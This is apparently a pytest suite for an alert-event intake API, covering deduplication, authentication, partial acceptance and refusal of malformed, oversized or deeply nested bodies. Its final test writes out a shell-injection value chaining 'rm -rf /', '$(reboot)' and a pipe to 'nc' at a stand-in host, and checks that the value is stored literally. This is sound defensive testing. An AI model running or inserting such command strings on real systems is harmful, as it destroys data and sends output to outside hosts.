"""Event intake: durable 202, deduplication, authentication, alert-by-alert acceptance and
refusal of bodies with nothing usable in them."""

from __future__ import annotations

import copy
import json

import pytest

from tests.support.factories import auth, firing, stored_events, webhook_alert, webhook_body
from tests.support.metrics import sample


def accepted(stored: int = 0, duplicates: int = 0, rejected: list | None = None) -> dict:
    """The 202 body for a delivery whose valid items were `stored` new and `duplicates`."""
    return {
        "accepted": stored + duplicates,
        "stored": stored,
        "duplicates": duplicates,
        "rejected": rejected or [],
    }


def post_raw(desk_client, path: str, body: dict | list, person: str = "max"):
    """Post `body` as ASCII JSON: a lone surrogate goes out as the escape `\\ud800`, as
    Python's encoder writes it for a hostile sender (httpx's own encoder refuses it)."""
    return desk_client.post(
        path,
        content=json.dumps(body).encode(),
        headers={**auth(person), "content-type": "application/json"},
    )


def test_alertmanager_webhook_is_stored_once(desk_client, store) -> None:
    body = firing()
    first = desk_client.post("/api/v1/events/alertmanager", json=body, headers=auth("max"))
    again = desk_client.post("/api/v1/events/alertmanager", json=body, headers=auth("max"))
    assert (first.status_code, first.json()) == (202, accepted(stored=1))
    assert (again.status_code, again.json()) == (202, accepted(duplicates=1))
    [event] = stored_events(store)
    assert (event.source, event.status, event.labels["host"]) == ("alertmanager", "firing", "h1")
    assert (event.host, event.service) == (None, None)  # the label contract is triage's
    assert event.fingerprint == body["alerts"][0]["fingerprint"]


def test_resolved_delivery_is_a_new_event(desk_client, store) -> None:
    desk_client.post(
        "/api/v1/events/alertmanager", json=webhook_body("firing.json"), headers=auth("max")
    )
    answer = desk_client.post(
        "/api/v1/events/alertmanager", json=webhook_body("resolved.json"), headers=auth("max")
    )
    assert answer.json() == accepted(stored=1)
    assert [e.status for e in stored_events(store)] == ["firing", "resolved"]


def test_generic_event_and_list(desk_client, store) -> None:
    one = {"source": "backup-script", "host": "web1", "severity": "warning", "summary": "slow"}
    assert desk_client.post("/api/v1/events", json=one, headers=auth("max")).status_code == 202
    two = [dict(one, fingerprint="a"), dict(one, fingerprint="b")]
    assert desk_client.post("/api/v1/events", json=two, headers=auth("olga")).json()["stored"] == 2
    assert len(stored_events(store)) == 3


@pytest.mark.parametrize(
    ("headers", "status"),
    [({}, 401), ({"Authorization": "Bearer nobody"}, 401), (auth("rita"), 403)],
    ids=["no-token", "unknown-token", "wrong-role"],
)
def test_intake_needs_a_sender(desk_client, store, headers, status) -> None:
    answer = desk_client.post("/api/v1/events/alertmanager", json=firing(), headers=headers)
    assert answer.status_code == status
    assert stored_events(store) == []


def _without(body: dict, *path: str) -> dict:
    body = copy.deepcopy(body)
    target = body
    for key in path[:-1]:
        target = target[key]
    del target[path[-1]]
    return body


HOSTILE = [
    ("wrong-version", lambda b: {**b, "version": "3"}, "version"),
    (
        "labels-not-a-map",
        lambda b: {**b, "alerts": [{**b["alerts"][0], "labels": ["x"]}]},
        "labels",
    ),
    ("missing-alerts", lambda b: _without(b, "alerts"), "alerts"),
    (
        "missing-startsAt",
        lambda b: {**b, "alerts": [_without(b["alerts"][0], "startsAt")]},
        "startsAt",
    ),
    ("bad-status", lambda b: {**b, "alerts": [{**b["alerts"][0], "status": "exploded"}]}, "status"),
    ("one-mb-label", lambda b: firing(host="x" * 1_048_576), "host"),
    (
        "naive-time",
        lambda b: {**b, "alerts": [{**b["alerts"][0], "startsAt": "2026-01-01T00:00"}]},
        "startsAt",
    ),
]


@pytest.mark.parametrize(("case", "mangle", "field"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_malformed_bodies_are_refused_naming_the_field(
    desk_client, store, case, mangle, field
) -> None:
    answer = desk_client.post(
        "/api/v1/events/alertmanager", json=mangle(firing()), headers=auth("max")
    )
    assert answer.status_code == 422, answer.text
    assert field in json.dumps(answer.json()["detail"])
    assert stored_events(store) == []


HOSTILE_ALERTS = [
    (
        "far-east-offset-before-year-1",
        webhook_alert(startsAt="0001-01-01T00:00:00+23:59"),
        "startsAt",
    ),
    ("far-west-offset-after-9999", webhook_alert(endsAt="9999-12-31T23:59:59-23:59"), "endsAt"),
    ("lone-surrogate-label", webhook_alert(labels={"service": "app\ud800"}), "labels.service"),
    ("lone-surrogate-label-name", webhook_alert(labels={"a\ud800": "x"}), "labels"),
    ("nul-in-label", webhook_alert(labels={"service": "app\x00"}), "labels.service"),
    (
        "nul-in-annotation",
        webhook_alert(annotations={"summary": "down\x00"}),
        "annotations.summary",
    ),
]


@pytest.mark.parametrize(
    ("case", "hostile", "field"), HOSTILE_ALERTS, ids=[h[0] for h in HOSTILE_ALERTS]
)
def test_a_bad_alert_costs_only_itself(desk_client, store, case, hostile, field) -> None:
    good = [webhook_alert(fingerprint=f"{i:016x}", labels={"host": f"web{i}"}) for i in (1, 2)]
    body = {**webhook_body("firing.json"), "alerts": [good[0], hostile, good[1]]}

    refused = {"name": "opsflow_events_rejected_total", "source": "alertmanager"}
    refused_before = sample(desk_client.get("/metrics").text, **refused)

    answer = post_raw(desk_client, "/api/v1/events/alertmanager", body)

    assert answer.status_code == 202, answer.text
    result = answer.json()
    assert (result["accepted"], result["stored"]) == (2, 2)
    [rejected] = result["rejected"]
    assert rejected["index"] == 1
    assert rejected["reason"].startswith(f"alerts[1].{field}"), rejected
    assert sorted(e.labels["host"] for e in stored_events(store)) == ["web1", "web2"]
    assert sample(desk_client.get("/metrics").text, **refused) == refused_before + 1


def test_a_bad_generic_event_costs_only_itself(desk_client, store) -> None:
    good = {"source": "backup-script", "host": "web1", "severity": "warning"}
    body = [
        good,
        {**good, "occurred_at": "0001-01-01T00:00:00+23:59"},
        {**good, "host": "h" * 300},
        {**good, "summary": "\ud800", "fingerprint": "other"},
        "not an event",
        {**good, "fingerprint": "second"},
    ]

    answer = post_raw(desk_client, "/api/v1/events", body)

    assert answer.status_code == 202, answer.text
    result = answer.json()
    assert (result["accepted"], result["stored"]) == (2, 2)
    reasons = {r["index"]: r["reason"] for r in result["rejected"]}
    assert sorted(reasons) == [1, 2, 3, 4]
    assert reasons[1].startswith("[1].occurred_at: ")
    assert reasons[2].startswith("[2].host: ")
    assert reasons[3].startswith("[3].summary: ")
    fingerprints = [e.fingerprint for e in stored_events(store)]
    assert len(fingerprints) == 2 and "second" in fingerprints


NOTHING_USABLE = [
    ("every-alert-bad", "/api/v1/events/alertmanager", [a for _, a, _ in HOSTILE_ALERTS]),
    ("one-bad-generic", "/api/v1/events", {"source": "x", "summary": "\ud800"}),
    ("all-generic-bad", "/api/v1/events", [{"source": "x", "host": "h" * 300}, 5]),
    ("generic-not-an-object", "/api/v1/events", 42),
    ("nested-too-deep", "/api/v1/events", "[" * 100_000 + "]" * 100_000),
    ("not-utf-8", "/api/v1/events", b'{"source": "\xff"}'),
]


@pytest.mark.parametrize(
    ("case", "path", "body"), NOTHING_USABLE, ids=[n[0] for n in NOTHING_USABLE]
)
def test_a_body_with_nothing_usable_is_refused_with_a_json_detail(
    desk_client, store, case, path, body
) -> None:
    if case == "every-alert-bad":
        body = {**webhook_body("firing.json"), "alerts": body}
    if isinstance(body, bytes | str):
        content = body if isinstance(body, bytes) else body.encode()
    else:
        content = json.dumps(body).encode()
    answer = desk_client.post(
        path, content=content, headers={**auth("max"), "content-type": "application/json"}
    )
    assert answer.status_code == 422, answer.text
    detail = answer.json()["detail"]
    assert detail and all({"loc", "msg", "type"} <= set(problem) for problem in detail)
    assert all(problem["loc"][0] == "body" for problem in detail)
    assert stored_events(store) == []


def test_not_json_is_refused(desk_client, store) -> None:
    answer = desk_client.post(
        "/api/v1/events/alertmanager",
        content=b"{not json",
        headers={**auth("max"), "content-type": "application/json"},
    )
    assert answer.status_code == 422
    assert stored_events(store) == []


def test_oversized_body_is_refused_before_reading(desk_client, store) -> None:
    answer = desk_client.post(
        "/api/v1/events",
        content=b"[" + b"1," * 5_000_000 + b"1]",
        headers={**auth("max"), "content-type": "application/json"},
    )
    assert answer.status_code == 413
    assert stored_events(store) == []


def test_shell_metacharacters_are_stored_literally(desk_client, store) -> None:
    hostile = "web1; rm -rf / `id` $(reboot) | nc evil 1"
    answer = desk_client.post(
        "/api/v1/events/alertmanager",
        json=firing(host=hostile, service="$(id)"),
        headers=auth("max"),
    )
    assert answer.status_code == 202
    [event] = stored_events(store)
    assert (event.labels["host"], event.labels["service"]) == (hostile, "$(id)")
